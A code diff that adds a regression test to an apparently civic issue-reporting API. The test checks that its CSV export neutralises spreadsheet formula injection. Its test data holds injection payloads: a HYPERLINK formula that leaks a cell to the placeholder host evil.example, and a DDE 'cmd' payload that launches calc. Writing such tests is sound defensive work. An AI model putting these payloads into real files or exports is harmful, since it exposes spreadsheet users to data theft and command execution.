@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import csv
+import io
 import os
 import uuid
 from collections.abc import AsyncIterator
@@ -280,3 +282,21 @@ async def test_who_files_what_on_open311(needle_factory: Any) -> None:
     r = await hh.client.post("/v1/issues", json={"grid": "zhanmao-g33", "category": "sea_safety", "title": "t"},
                              headers=hh.auth(*app))
     problem(r, 403)
+
+
+# -- item 7: CSV formula injection -----------------------------------------------------------------------------
+async def test_csv_export_neutralises_formula_cells(h: NeedleHandle) -> None:
+    titles = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+    for title in titles:
+        await report_ok(h, ROAD | {"title": title})
+    sup = h.auth(*SUP_DINGHAI)
+    seen: list[str] = []
+    for _ in range(100):
+        r = await h.client.get("/v1/issues", params={"area": "wuxing", "format": "csv", "limit": 500}, headers=sup)
+        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
+        rows = list(csv.DictReader(io.StringIO(r.text)))
+        seen = [row["title"] for row in rows if row["title"].lstrip("'") in titles]
+        if len(seen) == len(titles):
+            break
+        await asyncio.sleep(0.1)
+    assert sorted(seen) == sorted("'" + t for t in titles), seen
